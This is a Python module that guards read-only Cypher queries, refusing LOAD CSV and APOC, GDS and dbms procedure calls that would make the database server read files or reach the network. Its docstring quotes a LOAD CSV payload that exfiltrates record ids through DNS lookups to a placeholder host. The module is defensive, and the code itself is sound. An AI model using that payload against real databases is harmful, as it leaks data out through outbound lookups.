"""Read-only Cypher must not make the database server read files or fetch URLs.

A report file from ``--reports-dir`` or a ``query`` without ``--write`` is read-only, yet
``LOAD CSV FROM 'https://' + e.id + '.example/x.csv'`` in it ran under the engines' read-only
modes and sent ids out in TLS host names and DNS lookups. Both engines are guarded here, before
the text is sent: ``LOAD CSV`` is refused, and so are procedures and functions of the families
that reach the network or the file system (APOC, GDS, dbms administration). Comments and
string literals are left out of the check, so a name in a string is not refused and a comment
cannot split a keyword. The embedded server also confines ``file://`` to an empty folder of its
own (IMPORT_FOLDER); FalkorDB has no setting that turns remote imports off.
"""

from __future__ import annotations

import re

from ..errors import InputError

# Strings and comments first (so their contents are skipped), then backquoted names.
_TOKENS = re.compile(r"""'(?:[^'\\]|\\.)*'|"(?:[^"\\]|\\.)*"|//[^\n]*|/\*.*?(?:\*/|\Z)|`((?:[^`]|``)*)`""", re.S)
_LOAD_CSV = re.compile(r"\bLOAD\s+CSV\b", re.IGNORECASE)
_FUNCTION = re.compile(r"\b([A-Za-z_]\w*(?:\s*\.\s*[A-Za-z_]\w*)+)\s*\(")  # a property is never called
_CALL_TARGET = re.compile(r"\bCALL\s+([A-Za-z_][\w]*(?:\s*\.\s*[A-Za-z_][\w]*)+)", re.IGNORECASE)
REFUSED_NAMESPACES = ("apoc.", "apoc_", "gds.", "dbms.")
ALLOWED = frozenset({"dbms.components"})


class OutboundAccessRefused(InputError):
    """A read-only query that would make the server read a file or reach the network."""


def _code(cypher: str) -> str:
    """The query with string literals and comments blanked and backquoted names unquoted."""
    def keep(match: re.Match[str]) -> str:
        if match.group(1) is not None:
            # A name, never a keyword: `LOAD CSV` as a column alias is not the clause.
            return re.sub(r"\s+", "_", match.group(1).replace("``", "`"))
        return "''" if match.group(0)[:1] in "'\"" else " "
    return _TOKENS.sub(keep, cypher)


def outbound_reason(cypher: str) -> str | None:
    """What in ``cypher`` reaches outside the graph, or None."""
    code = _code(cypher)
    if _LOAD_CSV.search(code):
        return "LOAD CSV (it makes the database server read a file or fetch a URL)"
    names = {re.sub(r"\s+", "", m.group(1)) for m in _CALL_TARGET.finditer(code)}
    names |= {re.sub(r"\s+", "", m.group(1)) for m in _FUNCTION.finditer(code)}
    for name in sorted(names):
        lowered = name.lower()
        if lowered.startswith(REFUSED_NAMESPACES) and lowered not in ALLOWED:
            return f"{name} (procedures of that family can read files, fetch URLs or change the server)"
    return None


def refuse_outbound(cypher: str) -> None:
    reason = outbound_reason(cypher)
    if reason is not None:
        raise OutboundAccessRefused(
            f"this read-only query uses {reason}; reports and queries without --write may not. "
            f"Load files with `portfolio-graph load`"
        )
